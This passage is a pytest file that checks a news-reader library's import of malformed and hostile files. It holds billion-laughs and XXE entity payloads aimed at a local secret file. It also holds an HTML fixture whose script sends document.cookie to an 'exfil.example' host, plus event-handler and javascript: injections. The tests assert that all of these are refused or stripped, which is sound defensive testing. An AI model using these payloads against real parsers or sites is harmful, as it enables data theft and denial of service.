"""Hand-made bad input (issue 7), through ``Library.import_paths`` and
``Library.import_annotations`` as the window and the command line use them.

Whatever people import by mistake or by malice is imported sensibly or refused with a
message that names the file and the reason; never a traceback, never a hang, never a
change to what the library already holds.

Covered elsewhere and not repeated here:

* refusal reasons of ``parse_bytes`` for empty, blank, JPEG, GIF, PDF, gzip, RTF and
  NUL-holding bytes: ``tests/core/ingest/test_files.py``
  ``::test_unreadable_files_are_refused_with_a_reason``
* a size limit of 64 MB and ``parse_file`` refusing a file over it:
  ``test_files.py::test_the_size_limit``, ``::test_parse_file_errors``
* a link loop between two folders and a broken link while walking:
  ``test_files.py::test_a_symlink_loop_terminates``, ``::test_a_broken_link_is_reported``
* entity declarations refused by ``parse_file``, ``/etc/passwd`` never read:
  ``tests/core/ingest/test_feed.py::test_entity_declarations_are_refused``,
  ``::test_external_entities_are_never_resolved``
* legacy encodings of plain text decoded: ``tests/core/ingest/test_encoding.py``
* scripts, handlers, frames and ``javascript:`` links left out of one page and one feed:
  ``tests/core/ingest/test_html.py::test_a_saved_page_gives_the_article_and_its_metadata``,
  ``test_feed.py::test_rss2_items_with_full_content``
* an importer crash contained to its file: ``tests/core/test_library.py``
  ``::test_an_importer_crash_is_contained_to_its_file``
* generated input (10,000 files per importer): ``tests/core/ingest/test_fuzz.py``;
  queries: ``tests/core/search/test_query_fuzz.py`` and ``tests/core/search/test_bad_queries.py``;
  annotation files: ``tests/core/annotations/test_import_fuzz.py``

The two 50 MB imports run in a child process (their peak memory is measured there) and
take about 10 s each; everything else here takes about 3 s together.
"""

from __future__ import annotations

import builtins
import contextlib
import errno
import io
import json
import os
import secrets
import string
import struct
import subprocess
import sys
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, TypeVar

import pytest

from reader.core.annotations.model import Highlight
from reader.core.errors import LibraryError
from reader.core.ingest import MAX_FILE_BYTES, detect
from reader.core.library import ImportProgress, ImportReport, Library
from reader.core.models import ArticleSummary, StoredArticle
from reader.core.store import Store

T = TypeVar("T")
ROOT = Path(__file__).resolve().parents[3]

STORY = """\
Parliament passes the budget

The lower house approved the budget on Thursday after a night of debate, with the
governing coalition holding together on every amendment.

The upper house is expected to vote on the bill next week.
"""
#: The extensions the window offers to import ("Articles" in the Open dialog); feeds
#: and the other formats are recognised by content whatever the name.
EXTENSIONS = sorted(
    {".txt", ".xml", ".rss", ".atom"} | detect._MARKDOWN_EXT | detect._HTML_EXT | detect._JSON_EXT
)
REFUSED_ENTITIES = "declares XML entities, which are refused for safety"


# -- helpers -----------------------------------------------------------------------------


def write_files(folder: Path, files: dict[str, bytes]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return folder


def failures(report: ImportReport, folder: Path) -> dict[str, str]:
    """{file name: reason} of the failed files, each named by its full path."""
    out: dict[str, str] = {}
    for failed in report.failed:
        path = Path(failed.path)
        assert path.parent == folder, f"{failed.path} is not named by its full path"
        assert failed.reason.strip(), f"{failed.path}: no reason given"
        out[path.name] = failed.reason
    return out


def log_rows(library: Library, folder: Path) -> dict[str, tuple[object, object]]:
    """{file name: (outcome, message)} of the import log rows of files in ``folder``."""
    rows: dict[str, tuple[object, object]] = {}
    for row in library.import_log():
        path = Path(str(row["path"]))
        if path.parent == folder:
            rows[path.name] = (row["outcome"], row["message"])
    return rows


def imported_articles(library: Library, report: ImportReport) -> list[StoredArticle]:
    return library.get_articles(report.article_ids)


def everything_stored(article: StoredArticle) -> str:
    """All the text the library keeps of an article."""
    fields = (article.source, article.author, article.dateline, article.external_id, article.url)
    return " ".join([article.title, article.text, *(f or "" for f in fields), *article.tags])


def finishes_within(seconds: float, work: Callable[[], T]) -> T:
    """The result of ``work()``, which must return within ``seconds`` (a hang fails the
    test instead of stopping the run)."""
    results: list[T] = []
    errors: list[BaseException] = []

    def run() -> None:
        try:
            results.append(work())
        except BaseException as exc:
            errors.append(exc)

    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    worker.join(seconds)
    assert not worker.is_alive(), f"still running after {seconds} s"
    if errors:
        raise errors[0]
    return results[0]


def png_bytes(width: int = 16, height: int = 16) -> bytes:
    """A real, valid PNG image (a colour gradient)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    rows = b"".join(
        b"\x00" + b"".join(bytes((x * 16, y * 16, 128)) for x in range(width))
        for y in range(height)
    )
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def zip_bytes() -> bytes:
    """A real ZIP archive holding a story the app must not read out of it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zipped-story.txt", STORY.replace("budget", "zippedbudget"))
        archive.writestr("notes/readme.md", "# Notes\n\nNothing here.\n")
    return buffer.getvalue()


def test_the_binary_samples_are_real() -> None:
    png = png_bytes()
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and png.endswith(b"IEND\xaeB`\x82")
    idat = png.index(b"IDAT")
    (length,) = struct.unpack(">I", png[idat - 4 : idat])
    assert len(zlib.decompress(png[idat + 4 : idat + 4 + length])) == 16 * (1 + 16 * 3)
    with zipfile.ZipFile(io.BytesIO(zip_bytes())) as archive:
        assert archive.testzip() is None
        assert "budget" in archive.read("zipped-story.txt").decode()


# -- 1. empty files ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "the file is empty"),
        (b"  \r\n\n\t \n", "the file holds no text"),
        (b"\xef\xbb\xbf", "the file holds no text"),  # a UTF-8 byte-order mark alone
        (b"\xff\xfe", "the file holds no text"),  # a UTF-16 byte-order mark alone
        (b"\xef\xbb\xbf\n\n  \n", "the file holds no text"),
    ],
    ids=["empty", "blank", "utf8-bom", "utf16-bom", "bom-and-blanks"],
)
def test_empty_files_of_every_extension_are_refused_by_name(
    empty_library: Library, tmp_path: Path, content: bytes, reason: str
) -> None:
    assert {".txt", ".md", ".html", ".xml", ".rss", ".atom", ".jsonl"} <= set(EXTENSIONS)
    folder = write_files(tmp_path / "in", {f"empty{ext}": content for ext in EXTENSIONS})
    report = empty_library.import_paths([folder])
    assert (report.imported, report.files) == (0, len(EXTENSIONS))
    assert failures(report, folder) == {f"empty{ext}": reason for ext in EXTENSIONS}
    assert log_rows(empty_library, folder) == {
        f"empty{ext}": ("failed", reason) for ext in EXTENSIONS
    }
    assert empty_library.article_count() == 0


# -- 2. binary files -----------------------------------------------------------------------

PNG_REASON = "this is a binary file (PNG image), not text"
ZIP_REASON = "this is a binary file (ZIP archive or Office/EPUB document), not text"


def test_a_png_and_a_zip_are_refused_whatever_their_name(
    empty_library: Library, tmp_path: Path
) -> None:
    png, archive = png_bytes(), zip_bytes()
    names = [".png", ".txt", ".md", ".html", ".xml", ".rss", ".jsonl"]
    files = {f"picture{ext}": png for ext in names}
    files |= {f"archive{ext}": archive for ext in [".zip", *names[1:]]}
    folder = write_files(tmp_path / "in", files)
    (folder / "story.txt").write_text(STORY, encoding="utf-8")

    report = empty_library.import_paths([folder])

    expected = {name: PNG_REASON if name.startswith("picture") else ZIP_REASON for name in files}
    assert failures(report, folder) == expected
    [story] = imported_articles(empty_library, report)
    assert story.title == "Parliament passes the budget"
    # Nothing is read out of the archive.
    assert empty_library.article_count() == 1
    assert empty_library.search("zippedbudget").total == 0


# -- 3. big files ----------------------------------------------------------------------------

PARAGRAPH = (
    "Russia and China signed a long-awaited gas supply deal on Wednesday, ending a decade "
    "of talks over the price of Siberian gas. The contract runs for thirty years. "
) * 3
#: Peak memory allowed for importing a 50 MB file (measured: about 1.2 GB for one 50 MB
#: article, most of it the search index analysing its text; 0.5 GB for a 50 MB feed).
PEAK_LIMIT_MB = 1536

BIG_IMPORT = """
import json, resource, sys, time
from pathlib import Path
from reader.core.library import Library

path, library_path = Path(sys.argv[1]), Path(sys.argv[2])
library = Library.open(library_path, import_seeds=False)
started = time.monotonic()
report = library.import_paths([path])
elapsed = time.monotonic() - started
articles = library.get_articles(report.article_ids)
peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
peak_mb = peak / 2**20 if sys.platform == "darwin" else peak / 2**10
print(json.dumps({
    "imported": report.imported,
    "failed": [[f.path, f.reason] for f in report.failed],
    "elapsed": elapsed,
    "peak_mb": peak_mb,
    "titles": [a.title for a in articles],
    "paragraphs": [len(a.paragraphs) for a in articles],
    "first": [a.paragraphs[0] for a in articles],
    "last": [a.paragraphs[-1] for a in articles],
    "chars": sum(len(a.text) for a in articles),
}))
library.close()
"""


def import_in_child(path: Path, library_path: Path) -> dict[str, Any]:
    pytest.importorskip("resource")
    proc = subprocess.run(
        [sys.executable, "-c", BIG_IMPORT, str(path), str(library_path)],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=ROOT,
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    result: dict[str, Any] = json.loads(proc.stdout.strip().splitlines()[-1])
    return result


def write_big(path: Path, head: str, unit: str, tail: str, size: int) -> int:
    """Write ``head``, then ``unit`` repeated, then ``tail``: ``size`` bytes at least."""
    encoded = unit.encode()
    count = (size - len(head) - len(tail)) // len(encoded) + 1
    with path.open("wb") as out:
        out.write(head.encode())
        for done in range(0, count, 1000):
            out.write(encoded * min(1000, count - done))
        out.write(tail.encode())
    assert path.stat().st_size >= size
    return count


@pytest.mark.slow
def test_a_50_mb_text_file_is_imported_whole_in_bounded_memory(tmp_path: Path) -> None:
    size = 50 * 2**20
    assert size < MAX_FILE_BYTES  # imported, not refused
    path = tmp_path / "huge.txt"
    count = write_big(
        path,
        "A very long file\n\nOpening paragraph of the long file.\n\n",
        PARAGRAPH.strip() + "\n\n",
        "Closing paragraph of the long file.\n",
        size,
    )
    result = import_in_child(path, tmp_path / "library")
    assert result["failed"] == []
    assert result["imported"] == 1
    assert result["titles"] == ["A very long file"]
    assert result["paragraphs"] == [count + 2]
    assert result["first"] == ["Opening paragraph of the long file."]
    assert result["last"] == ["Closing paragraph of the long file."]
    assert result["chars"] > 0.99 * size  # all of it, not a prefix
    assert result["peak_mb"] < PEAK_LIMIT_MB, result
    assert result["elapsed"] < 60, result


@pytest.mark.slow
def test_a_50_mb_feed_is_imported_whole_in_bounded_memory(tmp_path: Path) -> None:
    path = tmp_path / "huge.rss"
    items = 50
    paragraphs = "".join(f"&lt;p&gt;{PARAGRAPH.strip()}&lt;/p&gt;\n" for _ in range(2200))
    with path.open("w", encoding="utf-8") as out:
        out.write('<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel>')
        out.write("<title>Wire</title>\n")
        for number in range(items):
            out.write(
                f"<item><title>Gas deal, part {number}</title><guid>gas-{number}</guid>"
                f"<description>&lt;p&gt;Part {number} opens.&lt;/p&gt;{paragraphs}"
                f"&lt;p&gt;Part {number} ends.&lt;/p&gt;</description></item>\n"
            )
        out.write("</channel></rss>\n")
    assert 48 * 2**20 < path.stat().st_size < MAX_FILE_BYTES
    result = import_in_child(path, tmp_path / "library")
    assert result["failed"] == []
    assert result["imported"] == items
    assert result["titles"] == [f"Gas deal, part {n}" for n in range(items)]
    assert result["paragraphs"] == [2202] * items
    assert result["first"] == [f"Part {n} opens." for n in range(items)]
    assert result["last"] == [f"Part {n} ends." for n in range(items)]
    assert result["chars"] > 0.9 * path.stat().st_size  # the markup is gone, the text kept
    assert result["peak_mb"] < PEAK_LIMIT_MB, result
    assert result["elapsed"] < 60, result


def test_a_file_over_the_limit_is_refused_before_it_is_read(
    empty_library: Library, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    big = folder / "too-big.txt"
    with big.open("wb") as out:  # sparse: it has a size, nothing is written
        out.truncate(MAX_FILE_BYTES + 2**20)
    (folder / "small.txt").write_text(STORY, encoding="utf-8")
    read: list[str] = []
    real_open = Path.open

    def watching_open(self: Path, *args: Any, **kwargs: Any) -> Any:
        read.append(self.name)
        return real_open(self, *args, **kwargs)

    monkeypatch.setattr(Path, "open", watching_open)
    report = empty_library.import_paths([folder])
    assert failures(report, folder) == {
        "too-big.txt": "file is too large (65 MB; the limit is 64 MB)"
    }
    assert report.imported == 1
    assert "too-big.txt" not in read


# -- 4. invalid UTF-8 ---------------------------------------------------------------------

FRENCH = (
    "Le président a reçu mardi à l'Élysée ses homologues européens ; « nous avançons "
    "ensemble », a-t-il déclaré après un dîner de travail très détaillé."
)
RUSSIAN = (
    "Президент России Владимир Путин и председатель КНР Си Цзиньпин обменялись "
    "поздравлениями и договорились развивать сотрудничество."
)
GERMAN = "Die Minister berieten über Maßnahmen für Bürger und Unternehmen in Europa."
# An invalid start byte, a 2-byte sequence cut short, a 3-byte sequence cut short.
DAMAGED = (
    FRENCH.encode() + b" \xff " + RUSSIAN.encode() + b" \xc3 " + GERMAN.encode() + b" \xe2\x82"
)
REPAIRED = f"{FRENCH} \ufffd {RUSSIAN} \ufffd {GERMAN} \ufffd"
TITLE = "Sommet à Paris"


def closing(name: str) -> str:
    """A last paragraph of its own for each file (identical files are duplicates)."""
    return f"Fin du texte {name}."


def damaged_files() -> dict[str, bytes]:
    title = TITLE.encode()

    def end(name: str) -> bytes:
        return closing(name).encode()

    def join(*parts: bytes) -> bytes:
        return b"".join(parts)

    return {
        "damaged.txt": join(title, b"\n\n", DAMAGED, b"\n\n", end("damaged.txt"), b"\n"),
        "damaged.md": join(b"# ", title, b"\n\n", DAMAGED, b"\n\n", end("damaged.md"), b"\n"),
        "damaged.html": join(
            b'<html><head><meta charset="utf-8"><title>',
            title,
            b"</title></head><body><article><h1>",
            title,
            b"</h1><p>",
            DAMAGED,
            b"</p><p>",
            end("damaged.html"),
            b"</p></article></body></html>",
        ),
        "damaged.xml": join(
            b'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>',
            b"<title>Fil</title><item><title>",
            title,
            b"</title><description>&lt;p&gt;",
            DAMAGED,
            b"&lt;/p&gt;&lt;p&gt;",
            end("damaged.xml"),
            b"&lt;/p&gt;</description></item></channel></rss>",
        ),
        "damaged.jsonl": join(
            b'{"title": "',
            title,
            b'", "body": ["',
            DAMAGED,
            b'", "',
            end("damaged.jsonl"),
            b'"]}\n',
        ),
    }


def test_damaged_utf8_in_every_format_is_imported_with_replacement_characters(
    empty_library: Library, tmp_path: Path
) -> None:
    files = damaged_files()
    folder = write_files(tmp_path / "in", files)
    report = empty_library.import_paths([folder])
    assert report.failed == []
    assert report.imported == len(files)
    for article in imported_articles(empty_library, report):
        name = Path(article.origin).name if article.origin else "damaged.xml"  # a feed: no origin
        # Read as UTF-8 with the damage replaced (it used to be read as Mac Cyrillic).
        assert article.title == TITLE, name
        assert article.paragraphs == (REPAIRED, closing(name)), name


def test_invalid_code_points_written_as_escapes_are_replaced_not_fatal(
    empty_library: Library, tmp_path: Path
) -> None:
    """JSON ``\\ud800``, XML and HTML ``&#xD800;``, YAML ``"\\ud800"``: code points no text
    can hold. They used to stop the whole import with a traceback (JSON, YAML) or lose
    the whole feed (XML)."""
    files = {
        "a_surrogates.jsonl": (
            b'{"title": "Escaped \\ud800 title", "body": "Text \\udc00 of the story.",'
            b' "source": "Wire \\ud83d", "tags": ["tag\\udfff"], "author": "A \\ud800"}\n'
        ),
        "b_front_matter.md": (
            b'---\ntitle: "Front \\ud800 matter"\nsource: "\\udc00 Wire"\n---\n\n'
            b"Body of the front matter story.\n"
        ),
        "c_references.xml": (
            b'<rss version="2.0"><channel><title>Feed</title>'
            b"<item><title>Ref &#xD800; title</title><description>Refs &#55296; and"
            b" &#x110000; and &#99999999999; here.</description></item>"
            b"<item><title>Clean item</title><description>Clean text.</description></item>"
            b"</channel></rss>"
        ),
        "d_references.html": (
            b"<html><head><title>Page &#xD800; title</title></head><body><article>"
            b"<p>Page text &#xDC00; here, long enough to be an article.</p></article></body></html>"
        ),
        "e_after.txt": STORY.encode(),
    }
    folder = write_files(tmp_path / "in", files)
    report = finishes_within(60, lambda: empty_library.import_paths([folder]))
    assert report.failed == []
    by_title = {a.title: a for a in imported_articles(empty_library, report)}
    assert set(by_title) == {
        "Escaped \ufffd title",
        "Front \ufffd matter",
        "Ref \ufffd title",
        "Clean item",
        "Page \ufffd title",
        "Parliament passes the budget",
    }
    escaped = by_title["Escaped \ufffd title"]
    assert escaped.text == "Text \ufffd of the story."
    assert (escaped.source, escaped.tags, escaped.author) == (
        "Wire \ufffd",
        ("tag\ufffd",),
        "A \ufffd",
    )
    assert by_title["Front \ufffd matter"].source == "\ufffd Wire"
    assert by_title["Ref \ufffd title"].text == "Refs \ufffd and \ufffd and \ufffd here."
    assert (
        by_title["Page \ufffd title"].text == "Page text \ufffd here, long enough to be an article."
    )
    for article in by_title.values():
        article.text.encode("utf-8")  # storable and displayable text
    assert empty_library.check().ok


@pytest.mark.parametrize("ext", [".txt", ".md", ".html", ".xml", ".jsonl"])
def test_junk_that_is_no_text_is_refused_in_every_format(
    empty_library: Library, tmp_path: Path, ext: str
) -> None:
    junk = bytes(range(0x80, 0x100)) * 4 + bytes(range(1, 9)) * 8  # high and control bytes
    folder = write_files(tmp_path / "in", {f"junk{ext}": junk, "story.txt": STORY.encode()})
    report = empty_library.import_paths([folder])
    assert failures(report, folder) == {
        f"junk{ext}": "this is a binary file (it contains control bytes), not text"
    }
    assert report.imported == 1


# -- 5. legacy encodings -------------------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    codec: str
    label: str  # as a page or a feed declares it
    title: str
    paragraphs: tuple[str, str]


SAMPLES = [
    Sample(
        "latin-1",
        "iso-8859-1",
        "Le président reçoit à l'Élysée",
        (
            "Le président de la République a reçu mardi à l'Élysée ses homologues "
            "européens. « Nous avançons ensemble », a-t-il déclaré à l'issue du dîner.",
            "Les ministres des Finances se réuniront à Bruxelles la semaine prochaine "
            "pour préparer le sommet de décembre.",
        ),
    ),
    Sample(
        "cp1252",
        "windows-1252",
        "Bundesregierung beschließt Entlastungspaket",
        (
            "Die Bundesregierung hat am Mittwoch ein Entlastungspaket über 65 Milliarden € "
            "beschlossen. Der Kanzler sprach von einem „starken Signal“ an Bürger und Betriebe.",
            "Kritiker bemängeln, die Maßnahmen kämen zu spät – und seien ‚nicht zielgenau‘, "
            "hieß es aus der Opposition. Le cœur de l’Europe, sagte ein Diplomat.",
        ),
    ),
    Sample(
        "gb2312",
        "gb2312",
        "中俄关系迈入新时代",
        (
            "国家主席习近平同俄罗斯总统普京举行会谈。两国元首一致同意，继续深化中俄关系，"
            "推动各领域务实合作。",
            "双方表示，中俄关系是世界上最重要的双边关系之一，对维护地区和平稳定具有重要意义。",
        ),
    ),
    Sample(
        "koi8_r",
        "koi8-r",
        "Россия и Китай подписали соглашение",
        (
            "Президент России Владимир Путин и председатель КНР Си Цзиньпин подписали в "
            "Москве соглашение о поставках газа. Стороны назвали его историческим.",
            "Стороны также договорились расширять торговлю в национальных валютах и "
            "развивать сотрудничество в энергетике.",
        ),
    ),
    Sample(
        "cp1251",
        "windows-1251",
        "Путин и Си обсудили энергетику",
        (
            "Владимир Путин и Си Цзиньпин обсудили в Кремле поставки нефти и газа. "
            "«Наши отношения находятся на высоком уровне», — заявил российский лидер.",
            "Следующая встреча лидеров запланирована на осень в Пекине.",
        ),
    ),
]


def encoded_files(sample: Sample) -> dict[str, bytes]:
    title, (first, second) = sample.title, sample.paragraphs

    def body(name: str) -> str:
        return f"<article><h1>{title}</h1><p>{first}</p><p>{second}</p><p>{name}</p></article>"

    pages = {
        "plain.txt": f"{title}\n\n{first}\n\n{second}\n\nplain.txt\n",
        "undeclared.html": (
            f"<html><head><title>{title}</title></head><body>{body('undeclared.html')}</body></html>"
        ),
        "meta-charset.html": (
            f'<html><head><meta charset="{sample.label}"><title>{title}</title></head>'
            f"<body>{body('meta-charset.html')}</body></html>"
        ),
        "http-equiv.html": (
            '<html><head><meta http-equiv="Content-Type" '
            f'content="text/html; charset={sample.label}"><title>{title}</title></head>'
            f"<body>{body('http-equiv.html')}</body></html>"
        ),
        "declared.rss": (
            f'<?xml version="1.0" encoding="{sample.label}"?>\n<rss version="2.0"><channel>'
            f"<title>{title}</title><item><title>{title}</title><description><![CDATA["
            f"<p>{first}</p><p>{second}</p><p>declared.rss</p>]]></description>"
            "</item></channel></rss>\n"
        ),
    }
    return {name: text.encode(sample.codec) for name, text in pages.items()}


@pytest.mark.parametrize("sample", SAMPLES, ids=[s.codec for s in SAMPLES])
def test_legacy_encodings_give_back_the_original_text(
    empty_library: Library, tmp_path: Path, sample: Sample
) -> None:
    files = encoded_files(sample)
    with pytest.raises(UnicodeDecodeError):
        files["plain.txt"].decode("utf-8")  # detection is really needed
    folder = write_files(tmp_path / "in", files)
    report = empty_library.import_paths([folder])
    assert report.failed == []
    assert report.imported == len(files)
    for article in imported_articles(empty_library, report):
        name = Path(article.origin).name if article.origin else "declared.rss"
        assert article.title == sample.title, name
        assert article.paragraphs == (*sample.paragraphs, name), name


# -- 6. entity expansion and external entities -----------------------------------------------

LAUGHS = "".join(
    [
        '<!ENTITY lol "lol">',
        *(
            f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
            for n in range(1, 10)
        ),
    ]
)


def test_entity_expansion_and_external_entities_never_reach_the_library(
    library: Library, library_path: Path, tmp_path: Path
) -> None:
    secret = "".join(secrets.choice(string.ascii_lowercase) for _ in range(24))
    secret_file = tmp_path / "private" / "secret.txt"
    secret_file.parent.mkdir()
    secret_file.write_text(f"{secret}\n", encoding="utf-8")
    secret_dtd = tmp_path / "private" / "leak.dtd"
    secret_dtd.write_text(f'<!ENTITY leak "{secret}">\n', encoding="utf-8")
    uri, dtd_uri = secret_file.as_uri(), secret_dtd.as_uri()
    rss = (
        '<rss version="2.0"><channel><title>{t}</title><item><title>{t}</title>'
        "<description>{d}</description></item></channel></rss>"
    )
    refused = {
        "laughs.xml": f'<?xml version="1.0"?>\n<!DOCTYPE rss [{LAUGHS}]>\n'
        + rss.format(t="&lol9;", d="&lol9;"),
        "laughs.atom": f'<?xml version="1.0"?>\n<!DOCTYPE feed [{LAUGHS}]>\n'
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>&lol9;</title>'
        "<entry><title>x</title><id>1</id><summary>&lol9;</summary></entry></feed>",
        "laughs.html": f"<!DOCTYPE html [{LAUGHS}]><html><body><p>&lol9;</p></body></html>",
        "quadratic.rss": '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY a "'
        + "a" * 100_000
        + '">]>\n'
        + rss.format(t="Quadratic", d="&a;" * 100_000),
        "xxe.xml": f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{uri}">]>\n'
        + rss.format(t="Leak &xxe;", d="Before &xxe; after"),
        "xxe-parameter.xml": '<?xml version="1.0"?>\n'
        f'<!DOCTYPE rss [<!ENTITY % p SYSTEM "{dtd_uri}"> %p;]>\n'
        + rss.format(t="Leak", d="Before &leak; after"),
        "xxe-page.html": f'<!DOCTYPE html [<!ENTITY xxe SYSTEM "{uri}">]>'
        "<html><body><article><p>Before &xxe; after the entity.</p></article></body></html>",
    }
    neutralised = {
        # No entity declared in the feed itself: nothing is fetched, the text is kept.
        "external-dtd.xml": f'<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "{dtd_uri}">\n'
        + rss.format(t="External DTD", d="Words before &amp; after &leak; the reference."),
        "xinclude.xml": '<?xml version="1.0"?>\n'
        '<rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude"><channel><title>X</title>'
        f'<item><title>XInclude</title><description>Words <xi:include href="{uri}" parse="text"/>'
        " around an include.</description></item></channel></rss>",
        "entity-in-cdata.xml": rss.format(
            t="Entity in CDATA",
            d=f'<![CDATA[<!DOCTYPE html [<!ENTITY xxe SYSTEM "{uri}">]><p>Cdata &xxe; text.</p>]]>',
        ),
        "stylesheet.xml": f'<?xml version="1.0"?>\n<?xml-stylesheet href="{uri}"?>\n'
        + rss.format(t="Stylesheet", d="Words under a stylesheet."),
    }
    folder = write_files(
        tmp_path / "in",
        {name: text.encode() for name, text in (refused | neutralised).items()},
    )
    before = library.article_count()

    started = time.monotonic()
    report = finishes_within(60, lambda: library.import_paths([folder]))
    assert time.monotonic() - started < 20

    reasons = failures(report, folder)
    assert set(reasons) == set(refused)
    for name, reason in reasons.items():
        assert reason.endswith(REFUSED_ENTITIES), (name, reason)
    assert reasons["laughs.xml"] == f"the feed {REFUSED_ENTITIES}"
    assert reasons["laughs.html"] == f"the page {REFUSED_ENTITIES}"
    assert report.imported == len(neutralised)
    assert library.article_count() == before + len(neutralised)
    # The secret is nowhere: not in an article, not in the index, not in any file of the
    # library folder, not in the report.
    for article in library.get_articles([a.id for a in library.list_articles()]):
        stored = everything_stored(article)
        assert secret not in stored, article.title
        assert "lollollol" not in stored, article.title
    assert library.search(secret).total == 0
    assert secret not in repr(report) + repr(library.import_log())
    for file in library_path.rglob("*"):
        if file.is_file():
            assert secret.encode() not in file.read_bytes(), file
    assert library.check().ok


# -- 7. hostile HTML -----------------------------------------------------------------------

HOSTILE_BODY = """
<p>Negotiators from both countries met in Geneva on Tuesday to discuss the
pipeline, the first such meeting in two years. Officials described the talks as frank.</p>
<script>window.EVILSCRIPT = document.cookie; fetch("http://exfil.example/steal")</script>
<p onclick="EVILCLICK()" onmouseover="EVILHOVER()" style="background:url(http://css-attr.example/bg.png)">
The delegations agreed to meet again next month, a spokesman said after the session.</p>
<iframe src="http://iframe.example/ad" onload="EVILFRAME()">EVILIFRAMETEXT</iframe>
<img src="http://img.example/pixel.gif" alt="EVILALT" onerror="EVILERROR()">
<style>p { background: url("http://css-block.example/bg.png") } .EVILSTYLE {}</style>
<p>Read <a href="javascript:EVILHREF()">the full statement</a> or
<a href="http://link.example/page" onclick="EVILLINK()">the summary</a>
published by the ministry.</p>
<object data="http://object.example/x.swf">EVILOBJECT</object>
<embed src="http://embed.example/x.swf" type="application/x-shockwave-flash">
<svg onload="EVILSVG()"><text>EVILSVGTEXT</text></svg>
<form action="http://form.example/post"><input value="EVILINPUT"><button>EVILBUTTON</button></form>
<noscript>EVILNOSCRIPT <img src="http://noscript.example/p.gif"></noscript>
<p>Analysts said the outcome would shape energy prices across the region for years.</p>
<p>Filed from the {where} desk.</p>
"""
HOSTILE_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Pipeline talks resume in Geneva</title>
<meta http-equiv="refresh" content="0;url=http://refresh.example/">
<link rel="stylesheet" href="http://stylesheet.example/x.css">
<script src="http://script-src.example/t.js"></script>
<style>@import url(http://css-import.example/x.css);
body { background: url('http://css-head.example/b.png') }</style>
</head>
<body onload="EVILONLOAD()">
<article><h1>Pipeline talks resume in Geneva</h1>
{body}
</article></body></html>
"""
VISIBLE = (
    "Negotiators from both countries met in Geneva on Tuesday to discuss the pipeline, the "
    "first such meeting in two years. Officials described the talks as frank.",
    "The delegations agreed to meet again next month, a spokesman said after the session.",
    "Read the full statement or the summary published by the ministry.",
    "Analysts said the outcome would shape energy prices across the region for years.",
)
NEVER = (
    "EVIL",
    "javascript",
    "document.cookie",
    "fetch(",
    "onload",
    "onclick",
    "onerror",
    "url(",
    "background",
    ".example",
    "http",
    "swf",
)


def hostile_files() -> dict[str, bytes]:
    title = "Pipeline talks resume in Geneva"

    def body(name: str) -> str:
        return HOSTILE_BODY.replace("{where}", name)

    return {
        "page.html": HOSTILE_PAGE.replace("{body}", body("page.html")).encode(),
        "page.md": f"# {title}\n\n{body('page.md')}".encode(),
        "page.rss": (
            f'<rss version="2.0"><channel><title>Wire</title><item><title>{title}</title>'
            f"<description><![CDATA[{body('page.rss')}]]></description></item></channel></rss>"
        ).encode(),
        "page.jsonl": (json.dumps({"title": title, "body": body("page.jsonl")}) + "\n").encode(),
    }


def test_hostile_html_leaves_only_the_visible_text(empty_library: Library, tmp_path: Path) -> None:
    folder = write_files(tmp_path / "in", hostile_files())
    report = empty_library.import_paths([folder])
    assert report.failed == []
    articles = imported_articles(empty_library, report)
    assert len(articles) == 4
    for article in articles:
        where = Path(article.origin).name if article.origin else "page.rss"
        assert article.title == "Pipeline talks resume in Geneva", where
        # All of the visible text, the paragraphs after the <embed> included.
        assert article.paragraphs == (*VISIBLE, f"Filed from the {where} desk."), where
        stored = everything_stored(article)
        for leak in NEVER:
            assert leak not in stored, (where, leak)
    for word in ("EVILSCRIPT", "cookie", "exfil", "onclick", "EVILALT"):
        assert empty_library.search(word).total == 0, word
    assert empty_library.search("Geneva").total == 4


# -- 8. symbolic link loops --------------------------------------------------------------------


@pytest.mark.skipif(sys.platform == "win32", reason="symbolic links need privileges on Windows")
def test_link_loops_end_and_every_real_file_is_imported_once(
    empty_library: Library, tmp_path: Path
) -> None:
    root = tmp_path / "in"
    (root / "a" / "deeper").mkdir(parents=True)
    (root / "a" / "first.txt").write_text(STORY, encoding="utf-8")
    (root / "b.txt").write_text(STORY.replace("budget", "pension reform"), encoding="utf-8")
    (root / "a" / "loop").symlink_to("..", target_is_directory=True)  # back up to root
    (root / "a" / "deeper" / "up").symlink_to("../..", target_is_directory=True)
    (root / "a" / "alias-of-b.txt").symlink_to("../b.txt")  # the same file again
    (root / "x").symlink_to("x")  # a link to itself
    (root / "y").symlink_to("z")  # two links to each other
    (root / "z").symlink_to("y")

    report = finishes_within(60, lambda: empty_library.import_paths([root]))

    loop = "broken link (it leads back to itself in a loop)"
